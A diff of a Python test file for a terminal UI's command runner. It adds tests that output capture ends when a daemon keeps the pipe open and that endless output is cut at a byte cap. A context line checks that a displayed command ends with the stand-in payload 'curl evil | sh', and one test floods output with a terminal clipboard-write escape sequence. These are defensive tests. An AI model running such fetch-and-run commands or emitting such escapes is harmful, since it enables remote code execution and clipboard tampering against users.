@@ -186,3 +186,30 @@ def test_the_command_shown_for_agreement_is_one_line(hidden: str) -> None:
     shown = command.shown
     assert "\n" not in shown and "\t" not in shown and "\r" not in shown
     assert shown.startswith("sh -c 'echo logs") and shown.endswith("; curl evil | sh'")
+
+
+# --- gather command output -----------------------------------------------------------------------
+
+
+def test_a_command_that_leaves_a_daemon_holding_its_output_ends_when_it_exits() -> None:
+    import time
+
+    from tui.core.runcmd import run_capped
+
+    # The daemon (a new session: out of the command's process group) keeps the pipe open.
+    argv = ["sh", "-c", "echo pods; setsid sleep 12 & exit 0"]
+    started = time.monotonic()
+    result = run_capped(argv, timeout=10, max_bytes=1024)
+    assert time.monotonic() - started < 5
+    assert result.ok and not result.timed_out and result.stdout == b"pods\n"
+
+
+def test_a_command_printing_without_end_is_cut_at_its_cap() -> None:
+    import time
+
+    from tui.core.runcmd import run_capped
+
+    started = time.monotonic()
+    result = run_capped(["sh", "-c", "yes '\x1b]52;c;aGk=\x07'"], timeout=10, max_bytes=100_000)
+    assert time.monotonic() - started < 5
+    assert result.truncated and len(result.stdout) == 100_000
